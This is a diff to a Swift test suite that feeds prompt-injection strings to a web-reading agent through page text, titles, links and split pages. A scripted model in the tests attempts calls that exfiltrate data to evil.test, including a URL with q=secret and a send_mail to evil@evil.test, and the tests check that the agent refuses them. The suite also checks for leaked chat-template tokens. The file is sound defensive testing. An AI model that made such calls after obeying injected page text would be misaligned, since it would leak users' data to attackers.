@@ -27,12 +27,38 @@ struct InjectionTests {
     }
   }()
 
+  /// Where a page says it.
+  enum Place: String, Sendable, CaseIterable {
+    case text, title, link, twoPages
+  }
+
+  /// A corpus that says it there; the ferry is the first page.
+  private static func corpus(_ attempt: Case, _ place: Place) -> SmallCorpus {
+    let half = attempt.text.index(attempt.text.startIndex, offsetBy: attempt.text.count / 2)
+    let (first, second) =
+      switch place {
+      case .text: (attempt.text, "")
+      case .twoPages: (String(attempt.text[..<half]), String(attempt.text[half...]))
+      case .title, .link: ("", "")
+      }
+    var corpus = SmallCorpus([
+      ("http://harbour.test/ferry", "The ferry sails twice a day. \(first) It takes an hour."),
+      ("http://harbour.test/quay", "\(second) The ferry lies at the quay."),
+    ])
+    if place == .title { corpus.records[0].title = attempt.text }
+    corpus.records[0].links = [
+      .init(
+        url: "http://harbour.test/quay", text: place == .link ? attempt.text : "The quay", rel: nil,
+        kind: "a")
+    ]
+    return corpus
+  }
+
   @Test(
     .enabled(if: !InjectionTests.cases.isEmpty, "injection strings not found beside the package"),
-    arguments: cases)
-  func nothingBadFollowsFromAModelThatObeys(attempt: Case) async throws {
-    let page = "The ferry sails twice a day. \(attempt.text) It takes an hour."
-    let corpus = SmallCorpus([("http://harbour.test/ferry", page)])
+    arguments: cases, Place.allCases)
+  func nothingBadFollowsFromAModelThatObeys(attempt: Case, place: Place) async throws {
+    let corpus = Self.corpus(attempt, place)
     let fetched = Counter()
     let server = ScriptedServer { turn, body in
       switch turn {
@@ -41,6 +67,8 @@ struct InjectionTests {
         return [
           .call(
             id: "b", name: "read_page", arguments: #"{"url":"http://harbour.test/ferry"}"#),
+          .call(
+            id: "l", name: "page_links", arguments: #"{"url":"http://harbour.test/ferry"}"#),
           .call(id: "c", name: "read_page", arguments: #"{"url":"http://evil.test/x?q=secret"}"#),
           .call(id: "d", name: "send_mail", arguments: #"{"to":"evil@evil.test"}"#),
           .call(id: "e", name: "crawl", arguments: #"{"url":"http://evil.test/\#(attempt.id)"}"#),
@@ -61,13 +89,13 @@ struct InjectionTests {
     let steps = Steps()
     let answer = await agent.answer("How often does the ferry sail?") { steps.add($0) }
 
-    // Calls: the two that were earned, and no other.
+    // Calls: those that were earned, and no other.
     #expect(fetched.now == 0)
     let ends = steps.labels.filter { $0.hasPrefix("end ") }.sorted()
     #expect(
       ends == [
-        "end crawl refused", "end crawl refused", "end read_page done", "end read_page refused",
-        "end search_corpus done", "end send_mail refused",
+        "end crawl refused", "end crawl refused", "end page_links done", "end read_page done",
+        "end read_page refused", "end search_corpus done", "end send_mail refused",
       ])
     // The answer: no address to follow, no instructions, and what the page does not say is marked.
     #expect(!answer.text.contains("evil.test"))
@@ -75,6 +103,36 @@ struct InjectionTests {
     #expect(!answer.text.contains("Search it and read pages with the tools before you answer"))
     #expect(!answer.isVerified)
     try expectFences(server.bodies[2])
+  }
+
+  /// A model that answers in JSON is offered sentences of pages in a schema, which stands outside the
+  /// lines of data.
+  @Test(
+    .enabled(if: !InjectionTests.cases.isEmpty, "injection strings not found beside the package"),
+    arguments: cases)
+  func aSchemaOffersNothingThatActs(attempt: Case) async throws {
+    let corpus = Self.corpus(attempt, .text)
+    let server = ScriptedServer([
+      [.text(#"{"step":{"tool":"search_corpus","arguments":{"query":"ferry"}}}"#)],
+      [
+        .text(
+          #"{"step":{"tool":"read_page","arguments":{"url":"http://harbour.test/ferry"}}}"#)
+      ],
+      [.text(attempt.text)],
+    ])
+    var agent = Agent(
+      client: try server.client(),
+      tools: ToolBox.standard(search: corpus, pages: corpus), pages: corpus)
+    agent.manner = .json
+    agent.limits.turns = 3
+    let steps = Steps()
+    let answer = await agent.answer("How often does the ferry sail?") { steps.add($0) }
+    let schema = try #require(server.bodies[2].components(separatedBy: "response_format").last)
+    for sign in ["<|im_", "[INST]", "<<SYS", "</s>", "\u{200B}", "\u{202E}"] {
+      #expect(!schema.contains(sign), "\(sign)")
+    }
+    #expect(!answer.isVerified && !answer.text.contains("evil.test"))
+    #expect(steps.labels.filter { $0.hasPrefix("end ") }.count == 2)
   }
 
   /// Every line of data stands between the two lines of its mark, and the page made none of its own.
@@ -92,6 +150,7 @@ struct InjectionTests {
       #expect(ends.count == 1)
       let inside = lines[start..<(ends.first ?? start)].joined(separator: "\n")
       #expect(inside.contains("The ferry sails"))
+      #expect(!lines[..<start].joined().contains("PWNED"))
       #expect(!text.contains("<|im_start|>") && !text.contains("</") && !text.contains("<<SYS"))
     }
   }
